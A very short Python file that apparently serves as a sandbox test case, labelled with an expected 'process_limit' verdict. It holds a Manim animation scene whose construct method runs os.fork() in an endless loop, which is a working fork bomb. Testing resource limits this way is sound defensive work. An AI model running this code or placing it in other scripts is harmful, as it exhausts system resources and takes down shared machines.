# verdict: process_limit
import os

from manim import *


class Bomb(Scene):
    def construct(self):
        while True:
            os.fork()
